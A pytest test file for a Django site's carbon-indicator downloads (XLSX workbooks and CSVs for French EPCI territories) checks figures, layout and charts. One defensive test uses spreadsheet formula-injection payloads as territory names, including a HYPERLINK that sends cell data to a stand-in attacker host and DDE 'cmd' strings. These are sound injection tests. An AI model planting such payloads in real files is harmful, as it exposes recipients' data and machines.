"""Downloads a PCAET author re-uses: reopened with openpyxl and compared with the stored figures."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from indicators.measures import DECIMALS, FLUX_COMPONENTS, RESERVOIRS
from indicators.models import IndicatorValue, Release, TerritoryResult
from indicators.pages.territory import figures_context as territory_figures
from indicators.registry import INDICATORS
from territories import land_uses
from territories.models import Territory

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LABEL_TO_LAND_USE = {label: slug for slug, label in land_uses.LABELS.items() if slug in land_uses.PARENT_OF}
LABEL_TO_RESERVOIR = {label: key for key, label in RESERVOIRS.items()}
LABEL_TO_COMPONENT = {label: key for key, label in FLUX_COMPONENTS.items()}
HOSTILE_NAME = '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez ici")'


@pytest.fixture
def release():
    return Release.objects.current()


@pytest.fixture
def epci(release):
    """An EPCI of the current release, in the geography the site shows by default."""
    result = (
        TerritoryResult.objects.filter(release=release, available=True, territory__kind="epci")
        .select_related("territory")
        .order_by("territory__code", "-territory__geography")
        .first()
    )
    return result.territory


def stored(release, territory, measure, **filters) -> float:
    rows = IndicatorValue.objects.filter(release=release, territory=territory, measure=measure, **filters)
    return sum(rows.values_list("value", flat=True))


def download(client, url: str, **params):
    response = client.get(url, params)
    assert response.status_code == 200, response.content[:300]
    return response


def indicator_url(territory, slug: str, extension: str) -> str:
    return reverse("downloads:indicator", args=[territory.kind, territory.code, slug, extension])


def table_rows(sheet) -> tuple[list[str], list[list]]:
    """The header and rows of the first table of a sheet (the header is the first row with a fill)."""
    rows = list(sheet.iter_rows())
    start = next(i for i, row in enumerate(rows) if row[0].fill.fgColor.rgb not in (None, "00000000"))
    header = [cell.value for cell in rows[start] if cell.value is not None]
    body = []
    for row in rows[start + 1 :]:
        if row[0].value is None or row[0].font.italic:
            break
        body.append(row[: len(header)])
    return header, body


def readme_text(book) -> str:
    return "\n".join(str(cell.value) for row in book["Lisez-moi"].iter_rows() for cell in row if cell.value)


@pytest.mark.parametrize("slug", list(INDICATORS))
def test_indicator_sheet_has_read_me_table_and_native_chart(client, release, epci, slug):
    response = download(client, indicator_url(epci, slug, "xlsx"), millesime=release.slug)

    assert response["Content-Type"] == XLSX
    assert f"{slug}_epci_{epci.code}" in response["Content-Disposition"]
    assert len(response.content) < 130_000
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames[0] == "Lisez-moi"
    text = readme_text(book)
    for expected in (epci.name, epci.code, release.name, INDICATORS[slug].definition, "séquestration nette"):
        assert expected in text
    assert f"/territoire/epci/{epci.code}/?millesime={release.slug}" in text
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert any(name.startswith("xl/charts/chart") for name in archive.namelist()), "no native Excel chart"


def test_sheet_numbers_are_the_stored_figures_with_the_site_rounding(client, release, epci):
    def sheet(slug):
        response = download(client, indicator_url(epci, slug, "xlsx"), millesime=release.slug)
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        return table_rows(book.worksheets[1])

    header, rows = sheet("stock-carbone")
    by_label = {row[0].value: row for row in rows}
    assert by_label["Total"][1].value == pytest.approx(stored(release, epci, "stock", land_use="total"), rel=1e-12)
    assert by_label["Total"][1].number_format == "#,##0"
    for label, row in by_label.items():
        if label in LABEL_TO_RESERVOIR:
            expected = stored(release, epci, "stock", detail=LABEL_TO_RESERVOIR[label])
            assert row[1].value == pytest.approx(expected, rel=1e-9)

    header, rows = sheet("stock-carbone-occupation")
    column = header.index("Stock total (tC)")
    for row in rows[:-1]:
        expected = stored(release, epci, "stock", land_use=LABEL_TO_LAND_USE[row[0].value])
        assert row[column].value == pytest.approx(expected, rel=1e-9)

    header, rows = sheet("stock-carbone-hectare")
    column = header.index("Stock par hectare (tC/ha)")
    assert rows[0][column].number_format == "#,##0.0"
    for row in rows[:-1]:
        expected = stored(release, epci, "stock_hectare", land_use=LABEL_TO_LAND_USE[row[0].value], detail="")
        assert row[column].value == pytest.approx(expected, rel=1e-12)
    assert rows[-1][column].value == pytest.approx(stored(release, epci, "stock_hectare", land_use="total"))

    header, rows = sheet("flux-carbone")
    total = stored(release, epci, "flux", land_use="total")
    assert rows[-1][1].value == pytest.approx(total, rel=1e-12)
    assert rows[-1][2].value == ("séquestration nette" if total < 0 else "émission nette")
    for row in rows[:-1]:
        expected = stored(release, epci, "flux", detail=LABEL_TO_COMPONENT[row[0].value])
        assert row[1].value == pytest.approx(expected, rel=1e-9)

    header, rows = sheet("flux-carbone-occupation")
    column = header.index("Flux total (tCO2e/an)")
    for row in rows[:-1]:
        expected = stored(release, epci, "flux", land_use=LABEL_TO_LAND_USE[row[0].value])
        assert row[column].value == pytest.approx(expected, rel=1e-9, abs=1e-9)


def test_every_number_of_the_page_tables_is_in_the_sheets_at_the_same_rounding(client, release, epci):
    page = territory_figures(epci, release, parents=[])
    for section in page["indicators"]:
        response = download(client, indicator_url(epci, section["slug"], "xlsx"), millesime=release.slug)
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        in_file = {
            round(cell.value, places)
            for row in book.worksheets[1].iter_rows()
            for cell in row
            if isinstance(cell.value, int | float)
            for places in set(DECIMALS.values())  # each column is shown with its unit's decimals
        }
        table = section["table"]
        on_page = {
            cell["value"]
            for row in [*table["rows"], *([table["total"]] if table["total"] else [])]  # series have no total
            for cell in row["cells"]
            if cell.get("value") is not None
        }
        assert on_page <= in_file, (section["slug"], on_page - in_file)


def test_csv_opens_in_french_excel_and_holds_the_stored_figures(client, release, epci):
    response = download(client, indicator_url(epci, "flux-carbone", "csv"), millesime=release.slug)

    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())  # BOM: Excel reads UTF-8 accents
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Code territoire", "Territoire", "Millésime"]
    total = next(row for row in rows if row[3] == "Flux net du territoire")
    assert total[0] == epci.code
    value = float(total[4].replace(",", "."))
    assert value == pytest.approx(stored(release, epci, "flux", land_use="total"), rel=1e-12)


def test_pcaet_workbook_follows_the_deposit_grid_and_says_what_it_shows(client, release, epci):
    url = reverse("downloads:pcaet", args=[epci.kind, epci.code])
    response = download(client, url, millesime=release.slug, geographie=epci.geography)

    assert len(response.content) < 130_000
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Lisez-moi",
        "Cadre de dépôt PCAET",
        "Stock",
        "Stock par occupation",
        "Stock par hectare",
        "Flux",
        "Flux par occupation",
        "Catégories UE",
        "Cultures énergétiques GES",  # a series with values for its former region (Nord - Pas-de-Calais)
        "Surfaces",
        "Changements d'occupation",
        "Cadre national (SNBC)",
    ]
    text = readme_text(book)
    assert "hors cadre de dépôt" in text
    header, rows = table_rows(book["Cadre de dépôt PCAET"])
    values = {row[0].value: row[1].value for row in rows}
    total = stored(release, epci, "flux", land_use="total")
    assert values["Flux net du territoire (produits bois compris)"] == pytest.approx(total, rel=1e-12)
    grid = ["Forêt", "Sols agricoles (terres cultivées et prairies)", "Autres sols"]
    assert sum(values[label] for label in grid) == pytest.approx(
        values["Total du cadre de dépôt (hors produits bois)"], rel=1e-12
    )
    wood = values["Produits bois (hors cadre de dépôt)"]
    assert values["Total du cadre de dépôt (hors produits bois)"] + wood == pytest.approx(total, rel=1e-9, abs=1e-6)
    assert wood == pytest.approx(stored(release, epci, "flux", land_use="produits bois"), abs=1e-9)

    header, rows = table_rows(book["Surfaces"])
    assert rows[-1][2].value == pytest.approx(stored(release, epci, "surface", land_use="total"), rel=1e-12)

    # Land-use change areas 2012-2018: every stored (left → reached) pair, with its labels, in the last table.
    in_sheet = {
        (row[0].value, row[1].value): row[2].value
        for row in book["Changements d'occupation"].iter_rows()
        if isinstance(row[2].value, float) and row[1].value
    }
    changes = IndicatorValue.objects.filter(release=release, territory=epci, measure="surface_changee")
    assert changes.exists()
    for change in changes:
        pair = (land_uses.LABELS[change.detail], land_uses.LABELS[change.land_use])
        assert in_sheet[pair] == pytest.approx(change.value, rel=1e-12)


def test_regional_workbook_has_every_epci_of_both_geographies(client, release):
    response = download(client, reverse("downloads:regional"), millesime=release.slug)

    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    assert book.sheetnames[0] == "Lisez-moi"
    assert len(book.sheetnames) == 1 + 2 * len(INDICATORS)
    for geography, label in [("2018", "EPCI 2018"), ("2026", "EPCI 2025")]:
        rows = list(book[f"{label} Stock"].iter_rows(values_only=True))
        header = rows[0]  # on the first row, with filters, for a data sheet
        by_code = {row[0]: row for row in rows[1:] if row[0]}
        epcis = TerritoryResult.objects.filter(release=release, territory__kind="epci", territory__geography=geography)
        assert set(by_code) == set(epcis.values_list("territory__code", flat=True))
        result = epcis.filter(available=True).select_related("territory").first()
        row = by_code[result.territory.code]
        expected = stored(release, result.territory, "stock", land_use="total")
        assert row[header.index("Stock total (tC)")] == pytest.approx(expected, rel=1e-12)


@pytest.fixture
def hostile_territory(release, epci):
    """An EPCI whose name is a spreadsheet formula, with real figures."""
    territory = Territory.objects.create(
        kind="epci", code="999999999", geography="2018", name=HOSTILE_NAME, search_text="hostile"
    )
    TerritoryResult.objects.create(release=release, territory=territory, available=True, computed_from="test")
    IndicatorValue.objects.bulk_create(
        IndicatorValue(
            release=release,
            territory=territory,
            measure=value.measure,
            land_use=value.land_use,
            detail=value.detail,
            value=value.value,
            provenance=value.provenance,
        )
        for value in IndicatorValue.objects.filter(release=release, territory=epci)
    )
    return territory


@pytest.mark.parametrize("name", [HOSTILE_NAME, "+33 1 23", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_names_from_data_never_run_as_formulas(client, release, hostile_territory, name):
    hostile_territory.name = name
    hostile_territory.save()
    workbooks = [
        download(client, indicator_url(hostile_territory, "flux-carbone", "xlsx")).content,
        download(client, reverse("downloads:pcaet", args=["epci", hostile_territory.code])).content,
    ]
    for content in workbooks:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula was written"
        named = [cell for cell in cells if isinstance(cell.value, str) and name in cell.value]
        assert named, "the name is shown"
        for cell in named:
            if cell.value.startswith(name):
                assert cell.quotePrefix, f"{cell.coordinate} would become a formula when edited"

    text = download(client, indicator_url(hostile_territory, "flux-carbone", "csv")).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert f"'{name}" in cells
    assert name not in cells


def test_unknown_or_unavailable_territories_get_a_404(client, release, epci):
    assert client.get(indicator_url(epci, "inconnu", "xlsx")).status_code == 404
    assert client.get(reverse("downloads:pcaet", args=["epci", "000000000"])).status_code == 404
    unavailable = (
        TerritoryResult.objects.filter(release__status=Release.Status.PUBLISHED, available=False)
        .select_related("territory", "release")
        .first()
    )
    territory = unavailable.territory
    url = reverse("downloads:pcaet", args=[territory.kind, territory.code])
    params = {"geographie": territory.geography, "millesime": unavailable.release.slug}
    assert client.get(url, params).status_code == 404


def download_links(html: str) -> list[str]:
    return [
        part.split('"')[0].replace("&amp;", "&") for part in html.split('class="download-link" download href="')[1:]
    ]


def test_territory_and_indicator_pages_link_to_working_files(client, release, epci):
    page = client.get(epci.get_absolute_url(), {"millesime": release.slug}).content.decode()
    links = download_links(page)
    # the PCAET workbook, then a sheet and a CSV for each ALDO indicator and the series of its former region
    assert len(links) == 1 + 2 * (len(INDICATORS) + 1)
    assert any("/cultures-energetiques-ges.xlsx" in link for link in links)
    assert any("/pcaet.xlsx" in link for link in links)
    for link in links:
        response = client.get(link)
        assert response.status_code == 200, link
        assert response["Content-Disposition"].startswith("attachment"), link

    indicator_page = client.get(reverse("pages:indicator", args=["stock-carbone"])).content.decode()
    (regional,) = download_links(indicator_page)
    assert client.get(regional).status_code == 200


def test_workbooks_keep_their_headers_in_view_title_their_axes_and_name_their_licence(client, release, epci):
    response = download(client, indicator_url(epci, "flux-carbone", "xlsx"), millesime=release.slug)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.worksheets[1].freeze_panes == "B5"  # below the heading, the title and the header row
    assert "Licence Ouverte" in readme_text(book)
    charts = [
        zipfile.ZipFile(io.BytesIO(response.content)).read(name).decode()
        for name in zipfile.ZipFile(io.BytesIO(response.content)).namelist()
        if name.startswith("xl/charts/chart")
    ]
    assert charts and all("<c:title>" in chart.split("<c:valAx>")[1] for chart in charts), "value axis without title"


def test_the_regional_workbook_is_a_set_of_data_sheets(client, release):
    response = download(client, reverse("downloads:regional"), millesime=release.slug)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets[1:]:
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        assert sheet.freeze_panes == "C2"
        assert sheet["A1"].value == "Code (SIREN)"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
    assert len(charts) == len(book.worksheets) - 1  # one chart per indicator and geography


def test_csv_rounds_as_the_site_except_the_documented_exact_column(client, release, epci):
    response = download(client, indicator_url(epci, "stock-carbone-occupation", "csv"), millesime=release.slug)
    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    exact = header.index("Stock total (tC, valeur exacte)")
    soil = header.index("Sol (0-30 cm) (tC)")
    total = rows[-1]
    assert total[3] == "Total"
    assert "," not in total[soil]  # tC are shown to the unit
    assert float(total[exact].replace(",", ".")) == pytest.approx(
        stored(release, epci, "stock", land_use="total"), rel=1e-12
    )
